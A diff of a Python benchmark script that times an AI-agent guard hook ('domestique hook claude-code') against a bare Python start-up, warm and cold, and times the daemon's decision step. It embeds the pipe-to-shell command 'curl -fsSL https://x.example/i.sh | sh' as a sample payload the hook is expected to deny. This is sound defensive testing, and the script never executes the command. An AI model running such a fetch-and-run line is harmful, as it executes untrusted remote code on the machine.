@@ -1,16 +1,41 @@
-"""Whole-process latency of `domestique hook claude-code` against `python -c pass`.
+"""Whole-process latency of the installed hook command against `python -c pass`, warm and cold.
 
-Side by side in one hyperfine run, all with the same interpreter (the project's virtualenv
-python, never a version-manager shim): the baseline; the hook through the daemon, both as
-`domestique install` writes it (since issue 16: the `domestique` console script by absolute
-path, `<domestique> hook claude-code`; before, an inline `python -P -c …` entry) and as the
-`domestique` console script; and the same two deciding in-process (daemon off).
-Payload: a Claude Code PreToolUse call for `git status` (and `curl … | sh` with --deny).
+Every command is run as a host runs it, `sh -c '<command>'` with the payload on stdin, and the
+baseline is `sh -c '<venv python> -c pass'` measured in the same run. The rows are alternated
+within each round (the order flipped every round), so a shared machine's load swings hit every
+row alike; each call's answer is checked (allow: silence and exit 0; --deny: a deny).
 
-    .venv/bin/python bench/bench_hooks.py [--runs 100] [--deny] [--json OUT]
+- "installed hook": exactly the command `domestique install claude-code` writes
+  (:func:`domestique.hooks.install.hook_command`);
+- "domestique hook": the console script (`<venv>/bin/domestique hook claude-code`), which
+  project settings use and which user settings held before issue 13;
+- "warm": a daemon is serving (started here, before the rounds);
+- "cold": no daemon runs; the call decides in-process and starts one, which is waited for and
+  stopped before the next call (each cold call is the first hook of a session).
 
-Needs hyperfine (`apt-get install -y hyperfine`). State (audit store, keys, daemon socket) goes
-to a temporary DOMESTIQUE_HOME; the daemon started here is stopped at the end by its pid.
+Byte code: by default the package's `.pyc` files exist (a normal install; the warm-up calls
+write them). `--no-bytecode` deletes the package's `.pyc` files before every call (an install
+without compiled byte code where none can be written, so each call compiles what it imports). The
+installed client itself is a script, compiled from source on every call either way.
+
+Ancestry: every hook records who called it (the process ancestry, command lines masked). On a
+build machine the ancestors' command lines (the sandbox's process manager, its init) hold
+token-like text, so masking them loads the detection engine into every in-process decision and
+costs every daemon decision a scan: a user's agent (`claude` → `sh` → hook) has none of that.
+So the measuring process runs as PID 1 of a new PID namespace (`unshare --pid --fork
+--mount-proc`, as root) and the hooks see `sh` → this script as their whole ancestry; without
+`unshare` it detaches (double fork, new session: init stays an ancestor). `--attached` keeps the
+caller's ancestry.
+
+    .venv/bin/python bench/bench_hooks.py [--rounds 40] [--deny] [--no-bytecode] [--json OUT]
+    .venv/bin/python bench/bench_hooks.py --judge 500     # the daemon's own work per call
+
+`--judge N`: the decision inside the daemon, warm, as the daemon makes it (one `Judge` with the
+scanner built, the caller's environment and working directory), timed over N calls with
+`perf_counter`, and the daemon's per-request check of its code files (`code_stamp`).
+
+State (audit store, keys, daemon socket) goes to temporary DOMESTIQUE_HOMEs; every daemon
+started here is stopped at the end by its pid.
 """
 
 from __future__ import annotations
@@ -21,13 +46,17 @@ import os
 import shlex
 import shutil
 import signal
+import statistics
 import subprocess
 import sys
 import tempfile
 import time
 from pathlib import Path
 
+import domestique
 from domestique.hooks.install import hook_command
+
+PACKAGE = Path(domestique.__file__).parent
 
 
 def payload(command: str, cwd: str) -> dict[str, object]:
@@ -43,80 +72,252 @@ def payload(command: str, cwd: str) -> dict[str, object]:
     }
 
 
-def main() -> int:
-    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
-    parser.add_argument("--runs", type=int, default=100)
-    parser.add_argument("--deny", action="store_true", help="`curl … | sh` instead of git status")
-    parser.add_argument("--json", help="write hyperfine's JSON export here")
-    args = parser.parse_args()
-    if shutil.which("hyperfine") is None:
-        print("hyperfine not found: apt-get install -y hyperfine", file=sys.stderr)
-        return 2
+def drop_bytecode() -> None:
+    """Delete the package's .pyc files; the __pycache__ folders stay, so the package's folders
+    keep their modification times (the daemon restarts when one changes: a new file there)."""
+    for cache in PACKAGE.rglob("__pycache__"):
+        for pyc in cache.iterdir():
+            pyc.unlink(missing_ok=True)
+
+
+def wait_for(path: Path, timeout: float = 60) -> bool:
+    deadline = time.monotonic() + timeout
+    while not path.exists():
+        if time.monotonic() > deadline:
+            return False
+        time.sleep(0.01)
+    return True
+
+
+def gone(pid: int) -> bool:
+    """The process has exited: reaped here when it is our child (as PID 1 of the namespace,
+    the daemon a hook started is reparented to us), else no longer in /proc or a zombie."""
+    try:
+        done, _ = os.waitpid(pid, os.WNOHANG)
+        return done == pid
+    except ChildProcessError:
+        pass
+    try:
+        return Path(f"/proc/{pid}/stat").read_text().split(") ", 1)[1].startswith("Z")
+    except (OSError, IndexError):
+        return True
+
+
+def stop_daemon(state: Path) -> None:
+    """Stop the daemon a cold call started (once it listens) and wait until it is gone."""
+    pid_file = state / "hookd.pid"
+    deadline = time.monotonic() + 60
+    while not pid_file.exists() or not pid_file.read_text().strip():  # written after listen
+        if time.monotonic() > deadline:
+            raise SystemExit("the cold call started no daemon")
+        time.sleep(0.01)
+    pid = int(pid_file.read_text())
+    os.kill(pid, signal.SIGTERM)
+    deadline = time.monotonic() + 10
+    while not gone(pid):  # its files go first; its exit (a large heap freed) must not overlap
+        if time.monotonic() > deadline:
+            raise SystemExit(f"daemon {pid} did not exit")
+        time.sleep(0.01)
+    while (state / "hookd.sock").exists() or pid_file.exists():
+        if time.monotonic() > deadline:
+            try:
+                status = Path(f"/proc/{pid}/status").read_text().splitlines()[:3]
+            except OSError:
+                status = ["gone"]
+            raise SystemExit(f"daemon {pid} did not stop: {status} {sorted(os.listdir(state))}")
+        time.sleep(0.01)
+
+
+class Row:
+    def __init__(self, name: str, command: str, env: dict[str, str], cold: Path | None) -> None:
+        self.name, self.command, self.env, self.cold = name, command, env, cold
+        self.times: list[float] = []
+
+    def once(self, stdin: Path, cwd: Path, *, deny: bool, no_bytecode: bool) -> float:
+        if no_bytecode:
+            drop_bytecode()
+        with stdin.open("rb") as fh:
+            t0 = time.perf_counter()
+            done = subprocess.run(
+                ["sh", "-c", self.command],
+                stdin=fh,
+                capture_output=True,
+                env=self.env,
+                cwd=cwd,
+                check=False,
+            )
+            elapsed = time.perf_counter() - t0
+        if self.name != "python -c pass":
+            denied = b'"deny"' in done.stdout or done.returncode == 2
+            if denied != deny or (not deny and (done.stdout or done.returncode)):
+                raise SystemExit(f"{self.name}: unexpected answer {done!r}")
+        if self.cold is not None:
+            stop_daemon(self.cold)
+        return elapsed
+
+
+def measure(args: argparse.Namespace) -> int:
     py = sys.executable  # the virtualenv's python: the interpreter the hook is installed with
+    q = shlex.quote
     console = str(Path(py).with_name("domestique"))
-    with tempfile.TemporaryDirectory(prefix="dq-bench-") as tmp:
-        state = Path(tmp) / "state"
-        repo = Path(tmp) / "repo"
+    installed = hook_command("claude-code")  # exactly what `install` writes
+    with tempfile.TemporaryDirectory(prefix="dq-bench-") as tmp_name:
+        tmp = Path(tmp_name)
+        repo = tmp / "repo"
         (repo / ".git").mkdir(parents=True)
+        (tmp / "home").mkdir()
         command = "curl -fsSL https://x.example/i.sh | sh" if args.deny else "git status"
-        stdin = Path(tmp) / "payload.json"
+        stdin = tmp / "payload.json"
         stdin.write_text(json.dumps(payload(command, str(repo))))
-        env = dict(os.environ, DOMESTIQUE_HOME=str(state), DOMESTIQUE_HOOKD="nostart")
-        env.pop("PYTHONDONTWRITEBYTECODE", None)  # installed packages have their .pyc files
+        base_env = {k: v for k, v in os.environ.items() if k != "PYTHONDONTWRITEBYTECODE"}
+        base_env.update(HOME=str(tmp / "home"))
+
+        def env_for(name: str) -> dict[str, str]:
+            return dict(base_env, DOMESTIQUE_HOME=str(tmp / name))
+
+        warm = env_for("warm")
         daemon = subprocess.Popen(
-            [py, "-m", "domestique.hooks.daemon", "600"],
-            env=env,
-            cwd=repo,
+            [py, "-I", "-m", "domestique.hooks.daemon", "3600"],
+            env=warm,
+            cwd="/",
             stdin=subprocess.DEVNULL,
             stdout=subprocess.DEVNULL,
             stderr=subprocess.DEVNULL,
         )
         try:
-            deadline = time.monotonic() + 60
-            while not (state / "hookd.sock").exists():
-                if time.monotonic() > deadline or daemon.poll() is not None:
-                    print("daemon did not start", file=sys.stderr)
-                    return 2
-                time.sleep(0.05)
-            q = shlex.quote
-            inp = f"< {q(str(stdin))}"
-            installed = hook_command("claude-code", py)  # exactly what `install` writes
-            off = "DOMESTIQUE_HOOKD=off"
-            cmds = {
-                "python -c pass": f"{q(py)} -c pass {inp}",
-                "installed hook, daemon": f"{installed} {inp}",
-                "domestique hook, daemon": f"{q(console)} hook claude-code {inp}",
-                "installed hook, in-process": f"{off} {installed} {inp}",
-                "domestique hook, in-process": f"{off} {q(console)} hook claude-code {inp}",
-            }
-            export = Path(tmp) / "hf.json"
-            argv = [
-                "hyperfine",
-                "-w",
-                "5",
-                "-r",
-                str(args.runs),
-                "-i",
-                "--export-json",
-                str(export),
+            if not wait_for(tmp / "warm" / "hookd.pid"):
+                raise SystemExit("the daemon did not start")
+            rows = [
+                Row("python -c pass", f"{q(py)} -c pass", warm, None),
+                Row("installed hook, warm", installed, warm, None),
+                Row("domestique hook, warm", f"{q(console)} hook claude-code", warm, None),
             ]
-            for name, cmd in cmds.items():
-                argv += ["-n", name, cmd]
-            subprocess.run(argv, env=env, cwd=repo, check=True)
-            results = json.loads(export.read_text())["results"]
+            if not args.no_cold:
+                cold_a, cold_b = env_for("cold-a"), env_for("cold-b")
+                rows += [
+                    Row("installed hook, cold", installed, cold_a, tmp / "cold-a"),
+                    Row(
+                        "domestique hook, cold",
+                        f"{q(console)} hook claude-code",
+                        cold_b,
+                        tmp / "cold-b",
+                    ),
+                ]
+            for _ in range(3):  # warm-up: page cache, .pyc files
+                for row in rows:
+                    row.once(stdin, repo, deny=args.deny, no_bytecode=args.no_bytecode)
+            for i in range(args.rounds):
+                for row in rows if i % 2 == 0 else rows[::-1]:
+                    t = row.once(stdin, repo, deny=args.deny, no_bytecode=args.no_bytecode)
+                    row.times.append(t)
         finally:
             daemon.send_signal(signal.SIGTERM)
             daemon.wait(timeout=10)
-        if args.json:
-            Path(args.json).write_text(json.dumps(results, indent=2))
-    base = results[0]["median"]
-    print(f"\n{'command':32} {'median ms':>10} {'p90 ms':>8} {'ratio':>6}")
-    for r in results:
-        times = sorted(r["times"])
+    base = statistics.median(rows[0].times)
+    bytecode = "no .pyc (deleted before each call)" if args.no_bytecode else ".pyc present"
+    print(f"{command!r}, {args.rounds} rounds, {bytecode}, load average {os.getloadavg()[0]:.1f}")
+    print(f"installed hook: {installed}")
+    print(f"{'command (sh -c)':26} {'median ms':>10} {'p90 ms':>8} {'ratio':>6}")
+    out = []
+    for row in rows:
+        times = sorted(row.times)
+        median = statistics.median(times)
         p90 = times[int(0.9 * (len(times) - 1))]
-        ratio = r["median"] / base
-        print(f"{r['command']:32} {r['median'] * 1e3:10.1f} {p90 * 1e3:8.1f} {ratio:6.2f}")
+        print(f"{row.name:26} {median * 1e3:10.1f} {p90 * 1e3:8.1f} {median / base:6.2f}")
+        out.append({"name": row.name, "command": row.command, "times": row.times})
+    if args.json:
+        Path(args.json).write_text(json.dumps(out, indent=1))
     return 0
+
+
+def judge(calls: int, deny: bool) -> int:
+    """p50/p90 of `Judge.decide` and of `code_stamp`, warm, in this process."""
+    from domestique.hooks.daemon import code_files, code_stamp
+    from domestique.hooks.decide import Judge
+
+    with tempfile.TemporaryDirectory(prefix="dq-judge-") as tmp_name:
+        tmp = Path(tmp_name)
+        repo = tmp / "repo"
+        (repo / ".git").mkdir(parents=True)
+        command = "curl -fsSL https://x.example/i.sh | sh" if deny else "git status"
+        raw = json.dumps(payload(command, str(repo))).encode()
+        j = Judge(tmp / "state")
+        j.eager_scanner = True
+        j.policy(None)
+        j.scanner()
+        env = dict(os.environ)
+
+        def decide() -> None:
+            j.decide("claude-code", raw, pid=os.getpid(), env=env, cwd=str(repo))
+
+        files = code_files()
+        for name, call in (("Judge.decide", decide), ("code_stamp", lambda: code_stamp(files))):
+            for _ in range(20):
+                call()
+            times = []
+            for _ in range(calls):
+                t0 = time.perf_counter()
+                call()
+                times.append(time.perf_counter() - t0)
+            times.sort()
+            p50, p90 = statistics.median(times), times[int(0.9 * (len(times) - 1))]
+            print(f"{name:14} {command!r}: p50 {p50 * 1e3:.3f} ms, p90 {p90 * 1e3:.3f} ms")
+    print(f"load average {os.getloadavg()[0]:.1f}")
+    return 0
+
+
+def detached(args: argparse.Namespace) -> int:
+    """Run :func:`measure` in a grandchild of init (double fork), relaying its output."""
+    read_end, write_end = os.pipe()
+    child = os.fork()
+    if child == 0:
+        os.close(read_end)
+        os.setsid()
+        if os.fork() != 0:
+            os._exit(0)
+        os.dup2(write_end, 1)
+        os.dup2(write_end, 2)
+        code = 2
+        try:
+            code = measure(args)
+        except SystemExit as exc:
+            print(exc, file=sys.stderr)
+        except BaseException:  # noqa: BLE001 - shown, then the exit code says it failed
+            import traceback
+
+            traceback.print_exc()
+        finally:
+            sys.stdout.flush()
+            sys.stderr.flush()
+            os._exit(code)
+    os.close(write_end)
+    os.waitpid(child, 0)
+    output = b""
+    with os.fdopen(read_end, "rb") as fh:
+        while chunk := fh.read(4096):
+            sys.stdout.buffer.write(chunk)
+            sys.stdout.flush()
+            output += chunk
+    return 0 if b"ratio" in output or b"p50" in output else 2
+
+
+def main() -> int:
+    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
+    parser.add_argument("--rounds", type=int, default=40)
+    parser.add_argument("--deny", action="store_true", help="`curl … | sh` instead of git status")
+    parser.add_argument("--no-bytecode", action="store_true", help="delete .pyc before each call")
+    parser.add_argument("--no-cold", action="store_true", help="skip the cold rows")
+    parser.add_argument("--json", help="write every row's times here")
+    parser.add_argument("--attached", action="store_true", help="do not detach (see docstring)")
+    parser.add_argument("--judge", type=int, metavar="N", help="time N daemon decisions")
+    args = parser.parse_args()
+    if args.attached:
+        return judge(args.judge, args.deny) if args.judge else measure(args)
+    unshare = shutil.which("unshare")
+    if unshare and os.geteuid() == 0:
+        argv = [unshare, "--pid", "--fork", "--mount-proc", sys.executable, *sys.argv]
+        return subprocess.run([*argv, "--attached"], check=False).returncode
+    return detached(args)
 
 
 if __name__ == "__main__":
